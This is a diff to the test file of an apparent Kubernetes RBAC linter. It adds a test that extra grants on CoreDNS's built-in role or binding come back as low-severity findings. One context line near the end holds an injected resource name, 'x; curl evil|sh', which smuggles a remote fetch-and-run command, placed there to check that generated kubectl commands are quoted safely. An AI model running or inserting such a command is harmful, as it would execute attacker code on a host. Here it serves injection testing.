@@ -80,6 +80,17 @@ test("Kubernetes' own grants are no finding, but one additional rule is", () => 
   expect(lint([{ ...known, subjects: [user('mallory')] }])).not.toEqual([])
 })
 
+test('a harmless addition to a role or binding of Kubernetes or kops is a finding of low severity', () => {
+  const known = binding('system:coredns', 'system:coredns', [account('kube-system/coredns')])
+  const written = role('system:coredns', ['list,watch endpoints,services,pods,namespaces'])
+  expect(lint([known, written])).toEqual([])
+  expect(
+    lint([known, role('system:coredns', ['list,watch endpoints,services,pods,namespaces', 'get configmaps'])]),
+  ).toMatchObject([{ control: 'RB-05', severity: 'low', object: 'ClusterRoleBinding/system:coredns' }])
+  const more = { ...known, subjects: [account('kube-system/coredns'), user('oidc:ann')] }
+  expect(lint([more, written])).toMatchObject([{ severity: 'low', id: expect.stringContaining('oidc:ann') as string }])
+})
+
 test.each([
   ['x; curl evil|sh', "`kubectl delete 'rolebinding/x; curl evil|sh' -n shop`"],
   ['--all', '`kubectl delete rolebinding/--all -n shop`'],
